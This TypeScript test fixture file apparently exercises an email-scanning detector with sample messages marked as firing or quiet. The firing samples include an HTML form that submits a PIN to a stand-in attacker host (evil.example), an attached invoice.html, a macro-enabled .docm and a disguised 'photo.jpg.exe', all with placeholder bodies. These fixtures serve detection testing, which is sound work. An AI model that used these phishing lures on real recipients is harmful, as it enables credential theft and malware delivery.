// What acts, and what lies still.
import { htmlMail, mail, type Fixture } from '../fixture.ts'

const attached = (type: string, name: string) =>
  mail(
    { 'Content-Type': 'multipart/mixed; boundary=o' },
    `--o\r\n\r\nHello\r\n--o\r\nContent-Type: ${type}\r\nContent-Disposition: attachment; filename="${name}"\r\n\r\nx\r\n--o--`,
  )

export const fixtures: readonly Fixture[] = [
  {
    name: 'a form',
    is: 'firing',
    mail: htmlMail('<form action="https://evil.example/"><input name="pin"></form>'),
    expect: 'html',
    points: 25,
  },
  {
    name: 'an attached page',
    is: 'firing',
    mail: attached('text/html; name="invoice.html"', 'invoice.html'),
    expect: 'attachment',
    points: 25,
  },
  {
    name: 'a document with macros',
    is: 'firing',
    mail: attached('application/octet-stream', 'plan.docm'),
    expect: 'attachment',
  },
  {
    name: 'a message that is nothing but an attached program',
    is: 'firing',
    mail: mail(
      {
        'Content-Type': 'application/octet-stream',
        'Content-Disposition': 'attachment; filename="photo.jpg.exe"',
      },
      'x',
    ),
    expect: 'attachment',
  },
  { name: 'text', is: 'quiet', mail: mail(), expect: null },
  { name: 'a document', is: 'nearly', mail: attached('application/pdf', 'plan.pdf'), expect: null },
  { name: 'the body itself is HTML', is: 'nearly', mail: htmlMail('<p>Hello</p>'), expect: null },
]
